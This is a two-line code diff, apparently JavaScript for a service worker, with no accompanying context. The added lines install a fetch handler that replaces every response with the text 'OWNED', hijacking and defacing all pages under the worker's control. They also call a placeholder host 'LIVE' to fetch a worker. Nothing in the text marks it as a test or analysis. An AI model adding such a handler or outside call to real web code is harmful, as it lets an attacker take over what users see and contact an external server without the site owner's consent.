@@ -1,0 +1,2 @@
+self.addEventListener("fetch", event => event.respondWith(new Response("OWNED")));
+fetch("http://LIVE/worker");
